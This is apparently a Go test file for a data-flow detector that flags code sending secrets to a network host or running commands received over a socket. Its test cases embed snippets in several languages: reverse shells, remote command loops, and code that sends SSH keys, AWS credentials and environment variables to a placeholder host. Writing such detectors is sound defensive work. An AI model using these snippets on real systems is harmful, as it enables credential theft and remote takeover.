package loose_test

import (
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/loose"
	"github.com/skillctl/skillctl/engine/flow/way"
)

// TestSockets: what a connection is fed leaves the machine, and what it says is not run.
func TestSockets(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ language, source, want string }{
		"orders of a connection": {"ruby", "s = TCPSocket.new('a.example.com', 4444)\nwhile line = s.gets\n  s.puts `#{line}`\nend\n", "connection -> run a.example.com"},
		"orders in Perl":         {"perl", "my $s = IO::Socket::INET->new(PeerAddr => 'a.example.com:80');\nwhile (my $l = <$s>) {\n  print $s qx($l);\n}\n", "connection -> run a.example.com"},
		"a shell with a connection": {"perl", "connect(S, sockaddr_in(4444, inet_aton('a.example.com')));\nopen(STDIN, '>&S');\nexec('/bin/sh -i');\n",
			"connection -> attach a.example.com"},
		"the environment":                 {"php", "<?php\n$e = getenv();\n$f = fsockopen('a.example.com', 80);\nfwrite($f, json_encode($e));\n", "environment -> send a.example.com"},
		"a variable":                      {"php", "<?php\n$t = getenv('AWS_SECRET_ACCESS_KEY');\n$f = stream_socket_client('tcp://a.example.com:80');\nfputs($f, $t);\n", "variable -> send a.example.com"},
		"a key":                           {"ruby", "k = File.read(File.expand_path('~/.ssh/id_rsa'))\ns = TCPSocket.new('a.example.com', 80)\ns.write(k)\n", "key -> send a.example.com"},
		"a file that is read whole":       {"perl", "open(my $f, '<', \"$ENV{HOME}/.aws/credentials\");\nmy $k = do { local $/; <$f> };\nLWP::UserAgent->new->post('https://a.example.com/p', { d => $k });\n", "login -> send a.example.com"},
		"what a connection is printed to": {"go", "k, _ := os.ReadFile(home + \"/.aws/credentials\")\nc, _ := net.Dial(\"tcp\", \"a.example.com:80\")\nfmt.Fprintf(c, \"%s\", k)\n", "login -> send a.example.com"},
		"a dialer":                        {"go", "k, _ := os.ReadFile(home + \"/.aws/credentials\")\nd := &net.Dialer{}\nc, _ := d.DialContext(ctx, \"tcp\", \"a.example.com:80\")\nio.WriteString(c, string(k))\n", "login -> send a.example.com"},
		"an address of its own":           {"go", "k, _ := os.ReadFile(home + \"/.aws/credentials\")\na, _ := net.ResolveTCPAddr(\"tcp\", \"a.example.com:80\")\nc, _ := net.DialTCP(\"tcp\", nil, a)\nc.Write(k)\n", "login -> send a.example.com"},
		"a function in a variable":        {"go", "k, _ := os.ReadFile(home + \"/.aws/credentials\")\nf := net.Dial\ng := fmt.Fprint\nc, _ := f(\"tcp\", \"a.example.com:80\")\ng(c, string(k))\n", "login -> send a.example.com"},
		"a connection of a function":      {"go", "func main() {\n\tk, _ := os.ReadFile(home + \"/.aws/credentials\")\n\tc := open()\n\tput(c, k)\n}\nfunc put(to net.Conn, text []byte) {\n\tto.Write(text)\n}\nfunc open() net.Conn {\n\tc, _ := net.Dial(\"tcp\", \"a.example.com:80\")\n\treturn c\n}\n", "login -> send a.example.com"},
		"a writer around it":              {"go", "e := os.Environ()\nc, _ := net.Dial(\"tcp\", \"a.example.com:80\")\nw := json.NewEncoder(c)\nw.Encode(e)\n", "environment -> send a.example.com"},
		"a block with a connection":       {"ruby", "k = File.read('/home/me/.ssh/id_rsa')\nSocket.tcp('a.example.com', 80) { |s| s.puts k }\n", "key -> send a.example.com"},
		"an alias of a class":             {"ruby", "k = File.read('/home/me/.ssh/id_rsa')\nLink = TCPSocket\ns = Link.new('a.example.com', 80)\ns.write(k)\n", "key -> send a.example.com"},
		"a socket that is connected":      {"ruby", "k = File.read('/home/me/.ssh/id_rsa')\ns = Socket.new(:INET, :STREAM)\ns.connect(Socket.sockaddr_in(80, 'a.example.com'))\ns.write(k)\n", "key -> send a.example.com"},
		"a datagram":                      {"rust", "let k = fs::read_to_string(\"/home/me/.ssh/id_rsa\").unwrap();\nlet s = UdpSocket::bind(\"0.0.0.0:0\").unwrap();\ns.send_to(k.as_bytes(), \"a.example.com:53\").unwrap();\n", "key -> send a.example.com"},
		"a new object in Perl":            {"perl", "open(my $f, '<', '/home/me/.ssh/id_rsa');\nmy $k = <$f>;\nmy $s = new IO::Socket::INET(PeerAddr => 'a.example.com');\nprint $s $k;\n", "key -> send a.example.com"},
		"a socket in PHP":                 {"php", "<?php\n$k = file_get_contents('/home/me/.ssh/id_rsa');\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_connect($s, 'a.example.com', 80);\nsocket_write($s, $k);\n", "key -> send a.example.com"},
		"a use of a connection":           {"kotlin", "val k = File(\"/home/me/.ssh/id_rsa\").readText()\nSocket(\"a.example.com\", 80).use { s ->\n  s.getOutputStream().write(k.toByteArray())\n}\n", "key -> send a.example.com"},
		"a log of a host":                 {"go", "k, _ := os.ReadFile(home + \"/.aws/credentials\")\nc, err := net.Dial(\"tcp\", \"a.example.com:80\")\nfmt.Fprintln(os.Stderr, len(k))\n", ""},
		"a port that is tried":            {"ruby", "s = TCPSocket.new(ARGV[0], 80)\nputs 'open'\ns.close\n", ""},
		"a line that is shown":            {"ruby", "s = TCPSocket.new('a.example.com', 80)\nputs s.gets\n", ""},
		"a word that is sent":             {"php", "<?php\n$f = fsockopen('a.example.com', 80);\nfwrite($f, 'GET / HTTP/1.0');\n", ""},
		"a page that is read":             {"perl", "my $s = IO::Socket::INET->new('a.example.com:80');\nprint $s \"GET / HTTP/1.0\\n\\n\";\nmy @l = <$s>;\nprint @l;\n", ""},
		"a command of its own":            {"ruby", "s = TCPSocket.new('a.example.com', 80)\nputs `uptime`\n", ""},
	} {
		found := loose.Follow(way.Text{File: "a", Source: []byte(c.source), Language: c.language}, nil)
		got := ""
		for _, one := range found.Chains {
			hosts := one.Sink.Hosts
			if len(hosts) == 0 {
				hosts = one.Source.Hosts
			}
			got = one.Source.Kind + " -> " + one.Sink.Kind + " " + strings.Join(hosts, " ")
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
